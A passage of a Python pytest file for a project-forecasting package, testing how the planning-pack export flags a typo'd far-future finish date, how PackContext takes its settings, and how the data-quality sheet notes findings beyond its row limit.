    typo = (tasks[S.TASK_ID] == "PRJ-01-73").to_numpy()
    blank = tasks.assign(**{S.FINISHED: tasks[S.FINISHED].mask(typo)})
    tasks.loc[typo, S.FINISHED] = pd.Timestamp("2204-01-30 14:22")
    with warnings.catch_warnings(), pytest.warns(DataQualityWarning) as caught:
        warnings.filterwarnings("ignore", message=FEW_TRIALS, category=SettingsWarning)  # 100 trials, to be quick
        pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                                      requests=requests, n_trials=100, random_state=0, progress=False)
    assert [str(w.message) for w in caught] == [
        "as-of date 2026-06-29 leaves out 1 date far beyond the rest of the data (up to 2204-01-30 in 'finished'; "
        "later than 2029-03-27, so probably a typo: the validation report lists its row). Pass as_of= to choose "
        "another date.",
        "backtest: 1 of 1,622 done tasks has no finish date (1 read as blank: a date far beyond or before the "
        "rest of the data) and is left out (it cannot be placed before or after the split).",
        # the slip's backdated plans read it as blank too: not done at any cut after its start
        "finish slip: 1 done task has no finish date (1 read as blank: a date far beyond or before the rest of the "
        "data) and is left out of the backdated plans after its last date (created or started): when it finished is not "
        "known"]
    checks = pack.tables["data-quality-tasks"]
    assert checks.loc[checks["id"] == "PRJ-01-73", ["severity", "check"]].values.tolist() == [
        ["error", "far_future_finished"]]
    trends = pack.forecasts["trends"]
    assert trends.projects_.loc["PRJ-01", ["completed", "finished", "late"]].tolist() == [
        True, pd.Timestamp("2024-01-29 15:35"), False]
    assert trends.summary().loc["2024-01-01", ["projects_completed", "on_time_rate"]].tolist() == [1, 1.0]
    want = kpi_trends(blank, projects, requests, people=people, as_of="2026-06-29").summary()
    pd.testing.assert_frame_equal(trends.summary(), want)


def test_a_pack_context_sets_every_attribute_its_sheets_read_as_it_is_made():
    """The committee options, the scenarios and the projects' table are the context's from the start (the
    defaults, none, none yet): the sheets read them directly, so a context that missed one had been given the
    defaults in silence (a getattr's) where it now fails."""
    from pmo_forecast.reporting.committee_options import committee_options, options_of
    from pmo_forecast.reporting.project_forecasts import risk_threshold

    ctx = X.PackContext({"tasks": None})
    assert options_of(ctx) == committee_options() and risk_threshold(ctx) == (0.5, 0.5)
    assert (ctx.scenarios, ctx.project_table) == ([], None)


def test_a_pack_context_takes_its_settings_by_name():
    # seven positional arguments, four of them None where the load step made one: which None was the seed and which
    # the trials could not be told at the call; only the sources come by position now, every other by its name
    with pytest.raises(TypeError, match=re.escape("PackContext.__init__() takes 2 positional arguments but 8 were "
                                                  "given")):
        X.PackContext({"tasks": None}, None, None, None, None, None, None)
    ctx = X.PackContext({"tasks": None}, n_trials=500, random_state=3, as_of=pd.Timestamp("2026-06-29"))
    assert (ctx.n_trials, ctx.seed, ctx.as_of, ctx.sources_as_of) == (500, 3, pd.Timestamp("2026-06-29"),
                                                                        pd.Timestamp("2026-06-29"))
    assert (ctx.model, ctx.scenario_sources, ctx.bar, ctx.mapping) == (None, [], None, None)


def test_the_data_quality_sheet_counts_the_findings_past_its_rows(monkeypatch):
    # "First 5,000 of 6,234 findings; all of them are in the CSV file": how many the sheet leaves out, unsaid
    from helpers import make_tasks, pack_context

    from pmo_forecast import validate_tasks
    from pmo_forecast.reporting import pack_sheets

    tasks = make_tasks([(f"T{i}", "A", "ann", np.nan, 4.0, S.DONE) for i in range(1, 8)])  # 7 findings
    ctx = pack_context(tasks)
    ctx.validation = {"tasks": validate_tasks(tasks)}
    monkeypatch.setattr(pack_sheets, "MAX_FINDINGS_IN_SHEET", 5)
    block = next(b for b in pack_sheets._quality_sheet(ctx).blocks if b.slug == "data-quality-tasks")
    assert block.note.endswith("First 5 of 7 findings; 2 more findings in the CSV file, which has them all.")
    assert block.max_rows_in_sheet == 5 and len(block.df) == 7
